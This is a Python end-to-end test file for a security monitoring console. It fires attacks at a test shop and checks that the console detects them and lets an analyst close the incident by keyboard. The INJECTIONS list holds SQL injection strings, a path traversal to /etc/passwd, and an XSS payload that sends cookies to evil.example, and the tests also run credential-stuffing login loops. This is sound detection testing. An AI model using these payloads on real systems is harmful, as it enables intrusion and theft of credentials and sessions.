"""The whole way: requests through nginx, findings, an incident taken and closed by keyboard."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect, sync_playwright

from .conftest import Console, Edge

pytestmark = [pytest.mark.slow, pytest.mark.browser]

HONEST, ATTACKER, STUFFER = "198.51.100.20", "203.0.113.66", "203.0.113.99"
NEW_PASSWORD = "seven-Lanterns-over-Suzhou"
INJECTIONS = (
    "/catalogue/?q=1' UNION SELECT username,password FROM auth_user-- -",
    "/catalogue/?id=1 OR 1=1-- -",
    "/catalogue/?q=<script>document.location='//evil.example/'+document.cookie</script>",
    "/catalogue/?page=../../../../etc/passwd",
)


def visit(edge: Edge, path: str, client: str, body: dict[str, str] | None = None) -> None:
    """One request as `client`; what the shop answers is its own business."""
    data = urllib.parse.urlencode(body).encode() if body else None
    url = edge.url + urllib.parse.quote(path, safe="/?=&%")
    request = urllib.request.Request(url, data, {"X-Forwarded-For": client})
    try:
        urllib.request.urlopen(request, timeout=30).close()
    except urllib.error.HTTPError as error:
        error.close()


def shop_and_attack(edge: Edge) -> None:
    for path in (
        "/",
        "/catalogue/",
        "/catalogue/?q=O'Reilly",
        "/catalogue/?q=select 精选",
    ):
        visit(edge, path, HONEST)
    for path in INJECTIONS:
        visit(edge, path, ATTACKER)
    for number in range(40):
        secret = {"login-username": f"user{number}@example.com", "login-password": "123456"}
        visit(edge, "/accounts/login/", STUFFER, secret)


@pytest.fixture
def page(console: Console) -> Iterator[Page]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        context = browser.new_context(
            base_url=console.url,
            locale="zh-CN",
            reduced_motion="reduce",  # Chromium reports an aborted fade as an error
        )
        context.set_default_timeout(30_000)
        opened = context.new_page()
        faults: list[str] = []
        opened.on("pageerror", lambda error: faults.append(str(error)))
        yield opened
        browser.close()
        assert not faults


def sign_in(page: Page, console: Console) -> None:
    """With the one-time password, which the console insists on replacing."""
    page.goto("/")
    page.fill("input[name=login]", console.username)
    page.fill("input[name=password]", console.password)
    page.keyboard.press("Enter")
    page.wait_for_url("**/accounts/password/change/**")
    page.fill("input[name=oldpassword]", console.password)
    page.fill("input[name=password1]", NEW_PASSWORD)
    page.fill("input[name=password2]", NEW_PASSWORD)
    page.keyboard.press("Enter")
    page.wait_for_url(console.url + "/")


def cli(console: Console, *words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "shangdun.cli", *words],
        env={**os.environ, "SHANGDUN_HOME": str(console.home)},
        capture_output=True,
        text=True,
        check=False,
    )


def test_attack_is_found_and_its_incident_closed_by_keyboard(
    page: Page, console: Console, edge: Edge
) -> None:
    shop_and_attack(edge)
    sign_in(page, console)

    # The findings come by themselves: nothing is reloaded here.
    expect(page.get_by_text("SQL 注入攻击").first).to_be_visible(timeout=60_000)

    page.keyboard.press("g")
    page.keyboard.press("f")
    page.wait_for_url("**/findings/")
    expect(page.locator(f"main :text('{ATTACKER}')").first).to_be_visible()
    expect(page.locator(f"main :text('{HONEST}')")).to_have_count(0)

    page.get_by_role("link", name="SQL 注入攻击").first.focus()
    page.keyboard.press("Enter")
    page.wait_for_url("**/findings/*/")
    expect(page.locator("article code.raw", has_text="UNION")).to_be_visible()

    page.get_by_role("link", name="查看事件").press("Enter")
    page.wait_for_url("**/incidents/*/")

    page.keyboard.press("t")
    expect(page.locator(".facts", has_text=console.username)).to_be_visible()
    page.locator("textarea[name=text]").focus()
    page.keyboard.type("已在网关封禁该地址。")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_text("已在网关封禁该地址。").first).to_be_visible()
    page.locator("body").press("m")
    page.locator("dialog[open] textarea[name=note]").fill("确认是攻击")
    page.locator("dialog[open] button.btn-primary").press("Enter")
    page.wait_for_load_state()
    page.locator("body").press("x")
    page.locator("dialog[open] [name=verdict]").first.wait_for()
    choose_verdict(page)
    page.locator("dialog[open] button.btn-primary").press("Enter")
    expect(page.locator(".page-head")).to_contain_text("已结案")

    done = cli(console, "ledger", "verify")
    assert done.returncode == 0, done.stdout + done.stderr
    listed = cli(console, "incident", "list", "--all", "--json").stdout
    assert '"closed"' in listed
    assert '"true_positive"' in listed


def choose_verdict(page: Page) -> None:
    verdict = page.locator("dialog[open] [name=verdict]")
    if verdict.first.evaluate("element => element.tagName") == "SELECT":
        verdict.select_option("true_positive")
    else:
        page.locator("dialog[open] [name=verdict][value=true_positive]").check()
    page.locator("dialog[open] textarea[name=note]").fill("SQL 注入,已封禁并修复")


def test_stuffing_seen_only_in_the_access_log_becomes_an_incident(
    console: Console, edge: Edge
) -> None:
    for number in range(60):
        secret = {"login-username": f"guest{number}@example.com", "login-password": "123456"}
        visit(edge, "/accounts/login/", STUFFER, secret)
    about = ""
    for _ in range(15):
        listed = cli(console, "incident", "list", "--all", "--json").stdout
        numbers = [str(json.loads(line)["number"]) for line in listed.splitlines()]
        about = "".join(cli(console, "incident", "show", n, "--json").stdout for n in numbers)
        if STUFFER in about:
            break
        time.sleep(0.5)
    assert STUFFER in about
    assert HONEST not in about
    found = cli(console, "search", f"src_endpoint.ip:{STUFFER}", "--limit", "1000", "--json").stdout
    assert found.count("\n") >= 60
